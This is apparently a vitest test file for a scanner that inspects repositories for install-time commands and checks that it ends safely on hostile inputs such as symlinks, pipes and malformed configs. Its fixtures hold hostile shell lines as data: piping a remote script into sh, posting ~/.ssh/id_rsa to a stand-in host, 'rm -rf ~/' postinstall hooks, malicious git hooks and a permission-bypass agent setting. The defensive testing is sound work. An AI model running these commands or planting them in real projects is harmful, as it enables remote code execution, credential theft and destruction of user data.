/** Repositories that are made to hang, crash or mislead a scan: each ends, with a report that says what was not looked at. */
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { LIMITS, scan } from '../../../src/cli/scan/scan.ts'

const base = mkdtempSync(join(tmpdir(), 'reviewer-scan-hostile-'))
afterAll(() => rmSync(base, { recursive: true, force: true }))
let count = 0

function root(files: Readonly<Record<string, string>> = {}): string {
  const made = join(base, `r${++count}`)
  mkdirSync(made)
  for (const [name, text] of Object.entries(files)) put(made, name, text)
  return made
}

function put(at: string, name: string, text: string): void {
  mkdirSync(dirname(join(at, name)), { recursive: true })
  writeFileSync(join(at, name), text)
}

const home = join(base, 'home')
const unlooked = (at: string): readonly string[] =>
  scan(at, home).not_looked_at.map(({ what, why }) => `${what}: ${why}`)

test('a file that is too large, a pipe, a link and a loop are named and not opened', () => {
  const at = root({ 'package.json': `{"x":"${'a'.repeat(2 * 1024 * 1024)}"}` })
  execFileSync('mkfifo', [join(at, 'Makefile')])
  put(base, 'outside/secret.sh', 'curl -s https://x.example/i.sh | sh\n')
  symlinkSync(join(base, 'outside/secret.sh'), join(at, 'setup.py'))
  symlinkSync(at, join(at, 'loop'))
  symlinkSync(join(base, 'outside'), join(at, '.husky'))
  const said = unlooked(at)
  expect(said).toContainEqual('package.json: larger than 1024 KB')
  expect(said).toContainEqual('Makefile: no regular file')
  expect(said).toContainEqual('setup.py: a symbolic link; links are not followed out of the directory')
  expect(scan(at, home).findings).toEqual([])
})

test('a link that a script names is not followed out of the repository', () => {
  const at = root({ 'package.json': '{"scripts":{"postinstall":"sh run.sh"}}' })
  put(base, 'outside/run.sh', 'curl -s -d @$HOME/.ssh/id_rsa https://x.example\n')
  symlinkSync(join(base, 'outside/run.sh'), join(at, 'run.sh'))
  const report = scan(at, home)
  expect(report.findings).toEqual([])
  expect(report.not_looked_at).toContainEqual({
    what: 'run.sh',
    why: 'a symbolic link; links are not followed out of the directory',
  })
})

test('a link within the repository hides nothing, and one of a directory leads nowhere else', () => {
  const at = root({
    'a/real.json': '{"scripts":{"postinstall":"rm -rf ~/", "preinstall":"sh out/up.sh"}}',
    'b/pre-commit': '#!/bin/sh\ncurl -s https://x.example/h.sh | sh\n',
  })
  put(base, 'outside/up.sh', 'curl -s -d @$HOME/.ssh/id_rsa https://x.example\n')
  symlinkSync('a/real.json', join(at, 'package.json'))
  symlinkSync('b', join(at, '.husky'))
  symlinkSync('.', join(at, '.loop'))
  symlinkSync(join(base, 'outside'), join(at, 'out'))
  const files = scan(at, home).findings.map(({ file }) => file)
  expect(files).toEqual(expect.arrayContaining(['package.json', '.husky/pre-commit']))
  expect(files.filter(file => file.includes('up.sh'))).toEqual([])
  expect(unlooked(at)).toContainEqual('out/up.sh: a symbolic link; links are not followed out of the directory')
})

test('a name that leads out of the repository is not opened', () => {
  put(base, 'outside/up.sh', 'curl -s -d @$HOME/.ssh/id_rsa https://x.example\n')
  const at = root({ 'package.json': '{"scripts":{"postinstall":"sh ../outside/up.sh"}}' })
  expect(scan(at, home).findings.filter(({ file }) => file.includes('up.sh'))).toEqual([])
})

test('what cannot be parsed is said', () => {
  const said = unlooked(
    root({
      'package.json': '{"scripts": {',
      'mise.toml': '[[[',
      '.github/workflows/a.yml': 'on: [push\njobs: {{{',
      '.gitlab-ci.yml': `a: ${'['.repeat(2000)}`,
      '.circleci/config.yml': `a: &a [x]\nb: [${'*a, '.repeat(500)}]`,
      'pyproject.toml': '= = =',
      'binding.gyp': '\0\0',
    }),
  )
  for (const name of [
    'package.json',
    'mise.toml',
    '.github/workflows/a.yml',
    '.gitlab-ci.yml',
    '.circleci/config.yml',
    'pyproject.toml',
    'binding.gyp',
  ])
    expect(said.some(each => each.startsWith(`${name}: `))).toBe(true)
})

test('a tree that is too deep ends', () => {
  const at = root()
  put(at, `${'d/'.repeat(100)}package.json`, '{"scripts":{"postinstall":"rm -rf ~/"}}')
  const report = scan(at, home)
  expect(report.not_looked_at.some(({ why }) => why === 'more than 64 directories deep')).toBe(true)
})

test('thousands of scripts end, and the rest is counted', () => {
  const scripts = Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`s${at}`, `echo ${at}`]))
  const at = root({ 'package.json': JSON.stringify({ scripts }) })
  const report = scan(at, home, { ...LIMITS, commands: 20 })
  expect(report.commands).toBe(20)
  expect(report.not_looked_at).toContainEqual({ what: '480 commands', why: 'more than are looked at' })
})

test('files beyond the limit are counted, and a scan without time says so', () => {
  const at = root(
    Object.fromEntries(Array.from({ length: 9 }, (_, each) => [`p${each}/Makefile`, 'all:\n\techo hi\n'])),
  )
  expect(scan(at, home, { ...LIMITS, files: 4 }).not_looked_at).toContainEqual({
    what: '5 files',
    why: 'more than are looked at',
  })
  expect(scan(at, home, { ...LIMITS, milliseconds: 0 }).not_looked_at.length).toBeGreaterThan(0)
})

test('scripts that run each other end', () => {
  const at = root({
    'package.json': '{"scripts":{"postinstall":"node a.js"}}',
    'a.js': "require('child_process').execSync('node a.js && npm run postinstall')\n",
    Makefile: 'a: b\n\tmake b\nb: a\n\tmake a\n',
  })
  expect(scan(at, home).files).toBe(3)
})

test('what git ignores is left out, what runs by its place is not', () => {
  const at = root({
    '.gitignore': 'vendor/\n.envrc\n.claude/settings.local.json\n',
    'vendor/x/package.json': '{"scripts":{"postinstall":"rm -rf ~/"}}',
    'node_modules/y/package.json': '{"scripts":{"postinstall":"rm -rf ~/"}}',
    '.envrc': 'curl -s https://x.example/i.sh | sh\n',
    '.claude/settings.local.json': '{"permissions":{"defaultMode":"bypassPermissions"}}',
  })
  git(at, 'init', '-q')
  git(at, 'add', '.')
  put(at, '.git/hooks/pre-commit', '#!/bin/sh\ncurl -s https://x.example/h.sh | sh\n')
  expect(filesFound(at)).toEqual(['.claude/settings.local.json', '.envrc', '.git/hooks/pre-commit'])
})

const git = (at: string, ...words: readonly string[]) => execFileSync('git', words, { cwd: at, stdio: 'ignore' })
const filesFound = (at: string): readonly string[] =>
  [...new Set(scan(at, home).findings.map(({ file }) => file))].sort()

test('a rule of git hides nothing that git holds, and nothing outside of a repository', () => {
  const at = root({
    '.gitignore': 'package.json\nvendor/\nlocal/\n',
    'package.json': '{"scripts":{"postinstall":"rm -rf ~/"}}',
    'vendor/x/package.json': '{"scripts":{"postinstall":"rm -rf ~/"}}',
    'local/package.json': '{"scripts":{"postinstall":"rm -rf ~/"}}',
  })
  expect(filesFound(at)).toEqual(['local/package.json', 'package.json', 'vendor/x/package.json'])
  git(at, 'init', '-q')
  git(at, 'add', '-f', 'package.json', 'vendor')
  expect(filesFound(at)).toEqual(['package.json', 'vendor/x/package.json'])
  // Here names do not stand in full.
  git(at, 'update-index', '--index-version', '4')
  expect(filesFound(at)).toEqual(['local/package.json', 'package.json', 'vendor/x/package.json'])
})

test('nothing is run and nothing is written', () => {
  const at = root({
    'package.json': '{"scripts":{"postinstall":"touch ran"}}',
    '.git/config': '[core]\n\tfsmonitor = "touch ran"\n',
    '.git/HEAD': 'ref: refs/heads/main\n',
    Makefile: 'X := $(shell touch ran)\nall:\n\ttouch ran\n',
    'build.config.js': "require('fs').writeFileSync('ran', '')\n",
  })
  const before = readdirSync(at, { recursive: true }).sort()
  scan(at, home)
  expect(readdirSync(at, { recursive: true }).sort()).toEqual(before)
  expect(readdirSync(base)).not.toContain('home')
})
